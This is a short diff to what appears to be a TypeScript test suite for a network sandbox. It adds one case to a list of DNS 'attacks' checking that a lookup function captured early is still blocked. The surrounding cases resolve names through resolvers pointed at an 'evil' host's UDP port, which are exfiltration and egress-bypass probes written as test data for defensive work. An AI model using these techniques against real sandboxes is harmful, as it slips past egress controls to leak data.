@@ -31,6 +31,7 @@ export const dnsAttacks: readonly Attack[] = family(
     ['promises.lookupService', 'dns-query', (scene) => promises.lookupService(addressOf(scene), 80)],
     ['dns.promises.resolve6', 'dns-query', ({ evil }) => known(dns.promises.resolve6(evil.host))],
     ['promisify(lookup)', ['dns-query', 'host-not-allowed'], ({ evil }) => promisify(dns.lookup)(evil.host)],
+    ['a lookup that was taken before', ['dns-query', 'host-not-allowed'], ({ early, evil }) => promisify(early.lookup)(evil.host)],
     ['a Resolver', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolve4('secret.test', done)))],
     ['a Resolver for TXT', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolveTxt('secret.test', done)))],
     ['a Resolver of promises', 'dns-query', ({ evil }) => known(resolverOf(promises.Resolver, evil.udpPort).resolve4('secret.test'))],
